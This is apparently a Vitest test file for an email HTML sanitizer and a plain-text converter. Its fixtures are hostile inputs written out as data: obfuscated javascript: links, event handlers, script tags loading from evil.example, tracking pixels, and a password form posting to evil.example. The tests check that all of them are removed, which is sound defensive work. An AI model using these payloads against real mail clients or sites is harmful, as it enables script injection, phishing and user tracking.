import { describe, expect, it } from 'vitest';
import { htmlToPlainText, sanitizeEmailHtml } from './sanitizeEmailHtml';

describe('sanitizeEmailHtml', () => {
  it('when the HTML is ordinary mail markup, then it is kept', () => {
    const html =
      '<p>Hello <b>Alice</b>,</p><blockquote><p>quoted</p></blockquote><table width="100%"><tr><td colspan="2" align="left">cell</td></tr></table><ul><li>one</li></ul>';
    expect(sanitizeEmailHtml(html)).toBe(html);
  });

  it('when it carries scripts, in any disguise, then no script and no handler survives', () => {
    const clean = sanitizeEmailHtml(
      '<script>alert(1)</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT><p onclick="steal()" onmouseover="x()">hi</p>' +
        '<svg onload="alert(1)"><script>alert(2)</script></svg><math><mtext><script>alert(3)</script></mtext></math>' +
        '<body onload="alert(4)"><template><script>alert(5)</script></template><noscript><img src=x onerror=alert(6)></noscript>',
    );
    expect(clean).toBe('<p>hi</p>');
  });

  it('when links point at script or data URLs, protocol-relative or relative places, then they lose their href', () => {
    const clean = sanitizeEmailHtml(
      '<a href="javascript:alert(1)">a</a><a href="jav&#x09;ascript:alert(1)">b</a><a href=" JAVASCRIPT:alert(1)">c</a>' +
        '<a href="data:text/html;base64,PHNjcmlwdD4=">d</a><a href="//evil.example/">e</a><a href="/api/logout">f</a><a href="vbscript:msgbox">g</a>',
    );
    expect(clean).not.toMatch(/href/);
    expect(clean).toBe(
      'abcdefg'
        .split('')
        .map((t) => `<a rel="noopener noreferrer" target="_blank">${t}</a>`)
        .join(''),
    );
  });

  it('when a link is http(s), mailto or tel, then it stays and opens in a new tab without an opener or referrer', () => {
    expect(
      sanitizeEmailHtml(
        '<a href="https://customer.example/help?a=1&amp;b=2" target="_self" rel="opener" title="Help" onclick="x()">Details</a>',
      ),
    ).toBe(
      '<a href="https://customer.example/help?a=1&amp;b=2" title="Help" rel="noopener noreferrer" target="_blank">Details</a>',
    );
    expect(sanitizeEmailHtml('<a href="mailto:alice@customer.example">mail</a>')).toContain(
      'href="mailto:alice@customer.example"',
    );
    expect(sanitizeEmailHtml('<a href="tel:+14155550100">call</a>')).toContain('href="tel:+14155550100"');
  });

  it('when images are remote, relative or data URLs, then they are dropped; a cid: image of the mail itself stays', () => {
    const clean = sanitizeEmailHtml(
      '<img src="https://tracker.example/open.gif?id=dave" width="1" height="1"><img src="//tracker.example/p.gif"><img src="open.gif">' +
        '<img src="data:image/png;base64,iVBORw0KGgo="><img src="cid:logo@customer.example" alt="logo" onerror="alert(1)" srcset="https://tracker.example/2x.png 2x">',
    );
    expect(clean).toBe('<img src="cid:logo@customer.example" alt="logo" />');
  });

  it('when CSS tries to load or overlay things, then style elements, style attributes and background attributes go', () => {
    const clean = sanitizeEmailHtml(
      '<style>@import url(https://tracker.example/a.css); body { display:none }</style><link rel="stylesheet" href="https://tracker.example/b.css">' +
        '<div style="position:fixed;inset:0;background:url(https://tracker.example/c)">styled</div><table background="https://tracker.example/t.png"><tr><td>x</td></tr></table>',
    );
    expect(clean).toBe('<div>styled</div><table><tr><td>x</td></tr></table>');
  });

  it('when it holds forms, frames, embeds, base or meta refresh, then none of them remain', () => {
    const clean = sanitizeEmailHtml(
      '<form action="https://evil.example/login"><input name="password"><button>Log in</button></form>' +
        '<iframe src="https://evil.example/frame">inside</iframe><object data="https://evil.example/x.swf">obj</object><embed src="https://evil.example/e">' +
        '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    );
    expect(clean).toBe('Log in');
  });

  it('when the HTML is a whole document with a title and conditional comments, then only the body content is left', () => {
    expect(
      sanitizeEmailHtml(
        '<html><head><title>Newsletter</title></head><body><!--[if mso]><v:rect/><![endif]--><p>Hi</p></body></html>',
      ),
    ).toBe('<p>Hi</p>');
  });
});

describe('htmlToPlainText', () => {
  it('when an HTML mail needs a text rendering, then it keeps the words and line breaks and drops code', () => {
    expect(
      htmlToPlainText(
        '<style>p{}</style><p>Tom &amp; Jerry &lt;3</p><p>Line<br>two&nbsp;words</p><script>x()</script>',
      ),
    ).toBe('Tom & Jerry <3\nLine\ntwo words');
  });
});
